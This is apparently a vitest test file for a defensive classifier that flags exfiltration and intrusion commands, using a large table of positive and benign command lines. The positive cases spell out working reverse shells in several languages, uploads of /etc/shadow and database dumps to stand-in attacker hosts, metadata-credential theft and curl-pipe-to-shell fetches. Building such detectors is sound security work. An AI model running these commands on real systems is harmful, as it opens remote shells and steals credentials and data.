import { describe, expect, it } from 'vitest';
import {
  type BucketOwnershipClass,
  type ClassifyOptions,
  classifyArgv,
  classifyCommandLine,
  parseScript,
  sensitivePathOf,
  splitWords,
} from '../../src/classify/index.js';

type Case = {
  /** A command line (classified as a script) or an argv. */
  input: string | string[];
  categories: string[];
  severity?: string;
  options?: ClassifyOptions;
  /** Substring of one of the explanations. */
  explains?: string;
  destination?: string;
};

const owners: Record<string, BucketOwnershipClass> = { 'acme-prod-backups': 'ours', 'exfil-bucket-9999': 'foreign' };
const bucketOwner: ClassifyOptions['bucketOwner'] = (b) => owners[b.name] ?? 'unknown';

const POSITIVE: Case[] = [
  // Reverse shells
  { input: 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', categories: ['reverse_shell'], severity: 'critical', destination: '203.0.113.5' },
  { input: 'sh -i >& /dev/udp/10.0.0.1/53 0>&1', categories: ['reverse_shell'], severity: 'high', destination: '10.0.0.1' },
  { input: '0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196', categories: ['reverse_shell'], severity: 'critical' },
  { input: 'nc -e /bin/sh 203.0.113.5 4444', categories: ['reverse_shell'], severity: 'critical' },
  { input: "ncat 203.0.113.5 4444 --sh-exec 'sh -i'", categories: ['reverse_shell'], severity: 'critical' },
  { input: 'nc -lvp 4444 -e /bin/bash', categories: ['reverse_shell'], severity: 'high', explains: 'bind shell' },
  { input: 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 1234 >/tmp/f', categories: ['reverse_shell'], severity: 'critical' },
  { input: 'socat TCP:203.0.113.5:4444 EXEC:/bin/sh,pty,stderr,setsid', categories: ['reverse_shell'], severity: 'critical' },
  { input: 'socat TCP-LISTEN:4444,reuseaddr,fork EXEC:bash', categories: ['reverse_shell'], severity: 'high' },
  {
    input: `python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.5",1234));os.dup2(s.fileno(),0);p=subprocess.call(["/bin/sh","-i"])'`,
    categories: ['reverse_shell'],
    severity: 'critical',
    destination: '203.0.113.5',
  },
  {
    input: `perl -e 'use Socket;$i="203.0.113.5";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`,
    categories: ['reverse_shell'],
    severity: 'critical',
  },
  { input: `php -r '$sock=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, categories: ['reverse_shell'], severity: 'critical' },
  {
    input: `ruby -rsocket -e 'f=TCPSocket.open("203.0.113.5",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
    categories: ['reverse_shell'],
    severity: 'critical',
  },
  {
    input: `awk 'BEGIN {s = "/inet/tcp/0/203.0.113.5/4444"; while(42) { s |& getline c; print c |& s }}' /dev/null`,
    categories: ['reverse_shell'],
    severity: 'critical',
  },
  { input: 'busybox nc 203.0.113.5 4444 -e sh', categories: ['reverse_shell'], severity: 'critical' },
  // Uploads
  { input: 'curl -T /tmp/dump.sql https://upload.attacker.example/', categories: ['upload'], severity: 'high', destination: 'upload.attacker.example' },
  { input: 'curl -sSfT /tmp/dump.sql https://upload.attacker.example/', categories: ['upload'], severity: 'high' },
  { input: 'curl --upload-file /data/export.csv http://203.0.113.9:8080/x', categories: ['upload'], severity: 'high' },
  {
    input: 'curl -F "file=@/var/lib/app/db.sqlite" https://transfer.example.net/',
    categories: ['upload'],
    severity: 'high',
    explains: '/var/lib/app/db.sqlite',
  },
  { input: 'curl -X POST --data-binary @/app/data/users.json https://203.0.113.7/api', categories: ['upload'], severity: 'high' },
  { input: 'curl -d @/etc/passwd http://203.0.113.7/', categories: ['upload'], severity: 'high' },
  { input: 'wget --post-file=/etc/shadow http://203.0.113.7/', categories: ['sensitive_read', 'upload'], severity: 'critical', explains: 'password database' },
  { input: 'wget --body-file=/tmp/x.tgz --method=PUT https://203.0.113.7/u', categories: ['upload'], severity: 'high' },
  {
    input: 'tar czf - /var/lib/postgresql/data | curl -T - https://203.0.113.7/',
    categories: ['archive', 'upload'],
    severity: 'critical',
    explains: 'after packing',
  },
  { input: 'nc 203.0.113.5 4444 < /var/lib/app/db.sqlite', categories: ['upload'], severity: 'high', explains: 'raw TCP' },
  { input: `sh -c 'cat /etc/shadow | nc 203.0.113.5 9000'`, categories: ['sensitive_read', 'upload'], severity: 'critical' },
  { input: `sh -c 'curl -d "$(cat /etc/shadow)" https://203.0.113.5/'`, categories: ['sensitive_read', 'upload'], severity: 'high' },
  { input: `python3 -c "import requests;requests.post('https://203.0.113.5/u', data=open('/app/data/db').read())"`, categories: ['upload'], severity: 'high' },
  { input: 'http --form POST https://203.0.113.5/u file@/app/data/db', categories: ['upload'], severity: 'high' },
  { input: 'curl -T /tmp/report.pdf http://reports.internal.svc.cluster.local/upload', categories: ['upload'], severity: 'low' },
  { input: 'curl -T /tmp/x http://localhost:8080/upload', categories: ['upload'], severity: 'informational' },
  {
    input: 'curl -T /backup/db.dump https://exfil-bucket-9999.s3.eu-west-1.amazonaws.com/db.dump',
    categories: ['upload'],
    severity: 'high',
    options: { bucketOwner },
    explains: 'owner foreign',
  },
  // Cloud CLIs
  { input: 'aws s3 cp /data/export.csv s3://some-bucket/', categories: ['cloud_copy'], severity: 'medium', explains: 'owner: unknown' },
  { input: 'aws s3 cp /data/export.csv s3://exfil-bucket-9999/', categories: ['cloud_copy'], severity: 'high', options: { bucketOwner } },
  { input: 'aws s3 sync /backup s3://acme-prod-backups/postgres/', categories: ['cloud_copy'], severity: 'low', options: { bucketOwner } },
  {
    input: 'aws s3 cp s3://acme-data/ s3://exfil-bucket-9999/ --recursive',
    categories: ['cloud_copy'],
    severity: 'high',
    options: { bucketOwner },
    explains: 'bucket acme-data',
  },
  {
    input: 'aws --endpoint-url https://minio.attacker.example s3 cp /data/x s3://loot/',
    categories: ['cloud_copy'],
    severity: 'high',
    explains: 'through the endpoint',
  },
  { input: 'aws s3api put-object --bucket exfil --key a --body /data/a.db', categories: ['cloud_copy'], severity: 'medium' },
  { input: 'gsutil -m cp -r /data gs://exfil-bucket', categories: ['cloud_copy'], severity: 'medium', explains: 'GCS bucket exfil-bucket' },
  { input: 'gcloud storage cp /data/x gs://b/', categories: ['cloud_copy'], severity: 'medium' },
  {
    input: "azcopy copy /data 'https://evilacct.blob.core.windows.net/loot?sv=2022&sig=x' --recursive",
    categories: ['cloud_copy'],
    severity: 'medium',
    explains: 'evilacct/loot',
  },
  { input: 'rclone copy /var/lib/app mega:loot', categories: ['cloud_copy'], severity: 'medium', explains: 'mega:loot' },
  { input: 's3cmd put /data/x s3://b/', categories: ['cloud_copy'], severity: 'medium' },
  // Network and copy tools
  { input: 'nc 203.0.113.5 4444', categories: ['network_tool'], severity: 'medium' },
  { input: 'ssh -R 8080:localhost:80 tunnel@203.0.113.5', categories: ['network_tool'], severity: 'high', explains: 'tunnels' },
  { input: 'ssh -D 1080 -N user@bastion.attacker.example', categories: ['network_tool'], severity: 'high' },
  { input: 'scp /data/db.dump user@203.0.113.5:/tmp/', categories: ['network_tool'], severity: 'high', explains: 'copies /data/db.dump' },
  { input: 'rsync -avz /var/lib/app/ rsync://203.0.113.5/loot/', categories: ['network_tool'], severity: 'high' },
  { input: 'sftp user@203.0.113.5', categories: ['network_tool'], severity: 'high' },
  { input: 'openssl s_client -connect 203.0.113.5:443 -quiet', categories: ['network_tool'], severity: 'medium' },
  { input: `sudo -u app sh -c "tar cf - /srv/data | ssh user@203.0.113.5 'cat > loot.tar'"`, categories: ['archive', 'network_tool'], severity: 'high' },
  // Archiving
  { input: 'tar czf /tmp/.cache.tgz /app/data /var/lib/app', categories: ['archive'], severity: 'medium', explains: 'staged for transfer' },
  { input: 'tar -C /var/lib/postgresql -czf /tmp/db.tgz data', categories: ['archive'], severity: 'medium', explains: '/var/lib/postgresql/data' },
  { input: 'zip -r /tmp/x.zip /srv/uploads', categories: ['archive'], severity: 'medium' },
  { input: '7z a /tmp/x.7z /home/app', categories: ['archive'], severity: 'medium' },
  // Sensitive reads
  { input: 'cat /var/run/secrets/kubernetes.io/serviceaccount/token', categories: ['sensitive_read'], severity: 'high' },
  { input: 'cat ~/.aws/credentials', categories: ['sensitive_read'], severity: 'high', explains: 'AWS credentials' },
  { input: 'cat /root/.kube/config', categories: ['sensitive_read'], severity: 'high' },
  { input: 'head -n 5 /etc/shadow', categories: ['sensitive_read'], severity: 'high' },
  { input: 'base64 /root/.ssh/id_rsa', categories: ['sensitive_read'], severity: 'high', explains: 'SSH private keys' },
  { input: 'cat /proc/1/environ', categories: ['sensitive_read'], severity: 'medium' },
  { input: 'ls -la /var/run/secrets/kubernetes.io/serviceaccount', categories: ['sensitive_read'], severity: 'low', explains: 'lists' },
  { input: 'cat /usr/share/elasticsearch/config/elasticsearch.keystore', categories: ['sensitive_read'], severity: 'high' },
  // Instance metadata
  { input: 'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/', categories: ['metadata_access'], severity: 'high' },
  { input: 'curl -s http://169.254.169.254/latest/meta-data/instance-id', categories: ['metadata_access'], severity: 'medium' },
  { input: 'wget -qO- http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/role', categories: ['metadata_access'], severity: 'high' },
  {
    input: "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    categories: ['metadata_access'],
    severity: 'high',
  },
  { input: 'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI', categories: ['metadata_access'], severity: 'high' },
  // Tool transfer (T1105)
  { input: 'curl -fsSL https://get.attacker.example/x.sh | sh', categories: ['tool_transfer'], severity: 'high' },
  { input: 'wget -qO- http://203.0.113.5/a | bash', categories: ['tool_transfer'], severity: 'high' },
  // Wrappers, argv forms, split arguments
  { input: 'env -i PATH=/bin timeout 30 nohup curl -T /data/x https://203.0.113.5/', categories: ['upload'], severity: 'high' },
  { input: ['sh', '-c', 'while true; do tar czf - /app/data | nc 203.0.113.99 8080; sleep 60; done'], categories: ['archive', 'upload'], severity: 'critical' },
  {
    input: ['sh', '-c', 'while', 'true;', 'do', 'tar', 'czf', '-', '/app/data', '|', 'nc', '203.0.113.99', '8080;', 'sleep', '60;', 'done'],
    options: { splitArgs: true },
    categories: ['archive', 'upload'],
    severity: 'critical',
  },
  {
    input: ['/usr/bin/curl', '-s', '-T', '/tmp/.cache.tgz', 'https://203.0.113.66/upload'],
    categories: ['upload'],
    severity: 'high',
    destination: '203.0.113.66',
  },
  { input: ['sh', '-c', 'tar cf - /var/lib/mysql | tail -c+1'], categories: ['archive'], severity: 'medium' },
  { input: ['bash'], options: { tty: true }, categories: ['interactive_shell'], severity: 'low' },
  { input: ['/bin/sh', '-i'], categories: ['interactive_shell'], severity: 'low' },
];

const NEGATIVE: (string | string[])[] = [
  "nginx -g 'daemon off;'",
  'java -jar /app/app.jar --spring.profiles.active=prod',
  '/usr/local/bin/etl --from postgres --to s3://acme-prod-assets/extracts/',
  'curl -s https://api.payments.example/health',
  'curl -o /tmp/tool.tgz https://github.com/x/releases/tool.tgz',
  'wget https://example.com/file.tar.gz',
  'aws s3 cp s3://acme-config/app.yaml /etc/app/',
  'aws sts get-caller-identity',
  'aws s3 ls s3://bucket',
  'gsutil ls gs://bucket',
  'tar xzf /tmp/release.tgz -C /opt/app',
  'tar tf backup.tar',
  'tar czf - /proc/self',
  'cat /etc/hostname',
  'cat /etc/ssl/certs/ca-certificates.crt',
  'curl --cacert /etc/ssl/certs/ca.pem --cert /etc/app/client.pem --key /etc/app/client.key https://api.internal.svc/',
  'sh lifecycle.sh',
  "sh -c 'echo hello'",
  "bash -c 'sleep 3600'",
  'python3 -m http.server 8000',
  'python3 /app/main.py',
  'node server.js',
  'ls /app',
  'ps aux',
  'nc -z postgres 5432',
  'ssh-keygen -t ed25519 -f /root/.ssh/id_ed25519',
  "echo 'no secrets here'",
  'kubectl get secrets -n shop',
  'curl http://localhost:8080/healthz',
  'cp /app/config.yaml /tmp/',
  'rsync -a /data/ /backup/',
  'scp user@203.0.113.5:/tmp/x /tmp/',
  'openssl x509 -in /etc/ssl/certs/ca.pem -noout -text',
  'buildah bud -t 111122223333.dkr.ecr.eu-west-1.amazonaws.com/shop/api:ci-1 .',
  'cat https://example.com/.env',
  '/starwars-docker --port 80 --host 0.0.0.0',
  ['sh'],
];

function run(c: Case | string | string[]) {
  const input = typeof c === 'object' && !Array.isArray(c) ? c.input : c;
  const options = typeof c === 'object' && !Array.isArray(c) ? c.options : undefined;
  return Array.isArray(input) ? classifyArgv(input, options) : classifyCommandLine(input, options);
}

describe('exec payload classifier: table of command lines', () => {
  it('has at least 60 positive and 30 negative cases', () => {
    expect(POSITIVE.length).toBeGreaterThanOrEqual(60);
    expect(NEGATIVE.length).toBeGreaterThanOrEqual(30);
  });

  for (const c of POSITIVE) {
    it(`${Array.isArray(c.input) ? JSON.stringify(c.input) : c.input} → ${c.categories.join('+')} ${c.severity ?? ''}`, () => {
      const r = run(c);
      expect(r.categories).toEqual(c.categories);
      if (c.severity) expect(r.severity).toBe(c.severity);
      for (const m of r.matches) {
        expect(m.explanation.length).toBeGreaterThan(10);
        expect(m.command.length).toBeGreaterThan(0);
      }
      if (c.explains) expect(r.matches.map((m) => m.explanation).join(' | ')).toContain(c.explains);
      if (c.destination) expect(r.matches.map((m) => m.destination?.host)).toContain(c.destination);
    });
  }

  for (const c of NEGATIVE) {
    it(`${Array.isArray(c) ? JSON.stringify(c) : c} → nothing`, () => {
      expect(run(c).matches).toEqual([]);
    });
  }
});

describe('classifier options', () => {
  it('a configured destination classifier decides the reach (allow-listed uploads are informational)', () => {
    const r = classifyCommandLine('curl -T /tmp/x https://backup.partner.example/in', {
      destination: (h) => (h === 'backup.partner.example' ? 'allowed' : 'external'),
    });
    expect(r.matches[0]).toMatchObject({ category: 'upload', severity: 'informational', destination: { host: 'backup.partner.example', class: 'allowed' } });
  });

  it('interactive shells are not reported when turned off, and never next to another match', () => {
    expect(classifyArgv(['bash'], { tty: true, interactiveShells: false }).matches).toEqual([]);
    expect(classifyArgv(['bash', '-i'], { tty: true }).categories).toEqual(['interactive_shell']);
    expect(classifyCommandLine('bash -i >& /dev/tcp/203.0.113.5/1 0>&1', { tty: true }).categories).toEqual(['reverse_shell']);
  });

  it('audit argv keeps `sh -c` positional parameters out of the script; split arguments join them back', () => {
    expect(classifyArgv(['sh', '-c', 'echo $0', 'curl -T /x https://203.0.113.5/']).matches).toEqual([]);
    expect(classifyArgv(['sh', '-c', 'curl', '-T', '/x', 'https://203.0.113.5/'], { splitArgs: true }).categories).toEqual(['upload']);
  });

  it('bounds its work: huge scripts and deep nesting do not throw', () => {
    const huge = `${'echo a; '.repeat(10_000)}curl -T /x https://203.0.113.5/`;
    expect(() => classifyCommandLine(huge)).not.toThrow();
    let nested = 'curl -T /x https://203.0.113.5/';
    for (let i = 0; i < 12; i++) nested = `sh -c ${JSON.stringify(nested)}`;
    expect(() => classifyCommandLine(nested)).not.toThrow();
    for (const junk of ['', '"', "'", '$(', '`', '\\', '|||', '>&', '< <', '))(', '\u0000\u0001']) expect(() => classifyCommandLine(junk)).not.toThrow();
  });

  it('the common path returns the shared empty result without parsing', () => {
    const a = classifyArgv(['/usr/bin/python3', '/app/main.py']);
    const b = classifyArgv(['/app/server', '--port', '8080']);
    expect(a).toBe(b);
    expect(Object.isFrozen(a)).toBe(true);
  });
});

describe('shell tokenizer', () => {
  it('splits simple commands on pipes, lists and newlines, removes quotes and keeps redirections', () => {
    const p = parseScript(`FOO=1 cat '/a b' "c\\"d" e\\ f | grep -v x && echo "$(id)" 2>&1 > /tmp/o; true\nfalse`);
    expect(p.commands.map((c) => c.argv)).toEqual([['cat', '/a b', 'c"d', 'e f'], ['grep', '-v', 'x'], ['echo', '$(id)'], ['true'], ['false']]);
    expect(p.commands[0]?.pipeline).toBe(p.commands[1]?.pipeline);
    expect(p.commands[2]?.redirects).toEqual([
      { op: '>&', fd: 2, target: '1' },
      { op: '>', target: '/tmp/o' },
    ]);
    expect(p.substitutions).toEqual(['id']);
  });

  it('drops reserved words and skips for/case headers', () => {
    const p = parseScript('for f in a b; do gzip $f; done; if test -f x; then cat x; fi');
    expect(p.commands.map((c) => c.argv)).toEqual([['gzip', '$f'], [], ['test', '-f', 'x'], ['cat', 'x'], []].filter((a) => a.length > 0));
  });

  it('splitWords keeps operators as words (for sensors that join argv)', () => {
    expect(splitWords(`tar czf - /d | nc 1.2.3.4 80 2>/dev/null`)).toEqual(['tar', 'czf', '-', '/d', '|', 'nc', '1.2.3.4', '80', '2>', '/dev/null']);
  });
});

describe('sensitive paths', () => {
  it('recognises credential files and leaves public certificates alone', () => {
    expect(sensitivePathOf('/var/run/secrets/eks.amazonaws.com/serviceaccount/token')?.kind).toBe('kubernetes_secret');
    expect(sensitivePathOf('--shared-credentials-file=/home/app/.aws/credentials')?.kind).toBe('cloud_credentials');
    expect(sensitivePathOf('@/root/.docker/config.json')?.kind).toBe('application_secret');
    expect(sensitivePathOf('/etc/kubernetes/admin.conf')?.kind).toBe('kubeconfig');
    expect(sensitivePathOf('/etc/ssl/private/server.key')?.kind).toBe('private_key');
    expect(sensitivePathOf('/etc/ssl/certs/ca.pem')).toBeUndefined();
    expect(sensitivePathOf('/root/.ssh/id_rsa.pub')).toBeUndefined();
    expect(sensitivePathOf('/etc/passwd')).toBeUndefined();
    expect(sensitivePathOf('https://example.com/.env')).toBeUndefined();
  });
});
